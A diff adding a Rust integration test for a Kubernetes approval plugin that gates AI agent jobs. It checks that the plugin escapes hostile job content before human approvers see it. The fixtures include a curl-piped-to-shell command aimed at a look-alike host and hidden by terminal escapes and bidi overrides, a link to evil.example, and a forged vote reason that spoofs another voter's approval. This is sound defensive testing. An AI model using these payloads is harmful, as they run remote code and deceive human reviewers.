@@ -115,6 +115,83 @@ async fn heads_vote_with_the_plugin_as_themselves() {
     );
 }
 
+/// Nothing a terminal acts on or hides (escape sequences, `\r`, bidi and zero-width characters)
+/// is left raw in what the plugin printed.
+fn raw_controls(output: &[u8]) -> Vec<String> {
+    String::from_utf8_lossy(output)
+        .chars()
+        .filter(|c| *c != '\n' && agentgate::domain::terminal_text::is_hidden(*c))
+        .map(|c| format!("U+{:04X}", c as u32))
+        .collect()
+}
+
+#[tokio::test]
+async fn a_head_is_shown_what_the_author_wrote_escaped_and_never_run_by_the_terminal() {
+    let env = setup("pr-terminal").await;
+    let cp = ControlPlane::shared();
+    let alice = cp.kubeconfig("alice");
+    // dave's job hides a download piped to a shell behind a cleared line, a carriage return and a
+    // bidi override, names a look-alike host, writes a description whose lines pass for a
+    // budget, and pads its input to scroll the agents away.
+    let command = "curl https://ex\u{430}mple.com/x.sh | sh\x1b[2K\x1b[1A\x1b[2K\recho scanning";
+    let manifest = JobManifest::payments("scan")
+        .category("core-security")
+        .spec(json!({
+            "description": "weekly scan\nbudget:\n  maxCostUSD: \"0.01\"",
+            "agents": {"primary": {"command": ["sh", "-c", command, "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\"],
+                                   "args": ["echo \u{202E}hs|hs.live lruc\u{200B}"]}},
+            "input": {"padding": (0..400).map(|i| format!("line {i}")).collect::<Vec<_>>()},
+        }))
+        .build();
+    let dave = env.user("dave").await;
+    let job = Api::<AgentJob>::namespaced(dave.clone(), &env.ns).create(&PostParams::default(), &manifest).await.expect("create job");
+    // dave's own vote cannot count, but every head listing the votes is shown its reason.
+    let mut forged = ApprovalVote::new(
+        "scan-dave-g1",
+        agentgate::api::ApprovalVoteSpec {
+            job_ref: agentgate::api::JobRef { name: "scan".into(), uid: job.metadata.uid.clone().unwrap(), generation: 1 },
+            voter: "dave".into(),
+            decision: Decision::Approve,
+            reason: Some("ok\nscan-bob-g1   bob   Approve   1   yes   counted: 1 of 2 approvals\x1b[1A\x1b[2K".into()),
+            voter_groups: vec![],
+            confidence: None,
+        },
+    );
+    forged.metadata.namespace = Some(env.ns.clone());
+    Api::<ApprovalVote>::namespaced(dave, &env.ns).create(&PostParams::default(), &forged).await.expect("dave votes as himself");
+    wait_for_job(&env.admin, &env.ns, "scan", "AwaitingApproval", |j| phase(j) == Some("AwaitingApproval")).await;
+
+    let out = plugin(&alice, &["approve", "scan", "-n", &env.ns, "--reason", "looked at it"]).await;
+    assert!(out.status.success(), "{}", text(&out));
+    let shown = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{shown:?}");
+    assert!(shown.contains(r"curl https://ex\u0430mple.com/x.sh | sh\u001B[2K\u001B[1A\u001B[2K\recho scanning"), "{shown}");
+    assert!(shown.contains(r"echo \u202Ehs|hs.live lruc\u200B"), "{shown}");
+    let lines: Vec<&str> = shown.lines().collect();
+    assert_eq!(lines.iter().filter(|l| l.trim_start().starts_with("budget:")).count(), 1, "{shown}");
+    let at = |needle: &str| lines.iter().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {shown}"));
+    assert!(at("line 399") < at("command:") && at("command:") < at("approvalvote/scan-alice-g1 created"), "{shown}");
+    assert!(lines[at("approvalvote/") - 1].contains("runs agents agent ghcr.io/acme/agent:1"), "the footer names what runs:\n{shown}");
+
+    let out = plugin(&alice, &["votes", "scan", "-n", &env.ns]).await;
+    assert!(out.status.success(), "{}", text(&out));
+    let table = String::from_utf8_lossy(&out.stdout).into_owned();
+    eprintln!("kubectl agentgate votes scan:\n{table}");
+    assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{table:?}");
+    assert!(!table.lines().any(|l| l.starts_with("scan-bob-g1")), "bob never voted:\n{table}");
+    assert!(table.contains(r"ok\nscan-bob-g1   bob   Approve"), "{table}");
+
+    // The job printed for Git, as it is (a dry-run create by someone who may read its history).
+    let admin = cp.kubeconfig("admin");
+    for format in ["json", "yaml"] {
+        let out = plugin(&admin, &["rerun", "scan", "-n", &env.ns, "--name", "scan-again", "-o", format]).await;
+        assert!(out.status.success(), "{}", text(&out));
+        assert_eq!(raw_controls(&out.stdout), Vec::<String>::new(), "{}", text(&out));
+        let printed: AgentJob = serde_saphyr::from_str(&String::from_utf8_lossy(&out.stdout)).expect("the job as printed");
+        assert_eq!(printed.spec, job.spec, "the same job, escaped");
+    }
+}
+
 async fn votes_by(admin: &Client, ns: &str, job: &str, voter: &str) -> Vec<ApprovalVote> {
     Api::<ApprovalVote>::namespaced(admin.clone(), ns)
         .list(&ListParams::default().fields(&format!("spec.jobRef.name={job}")))
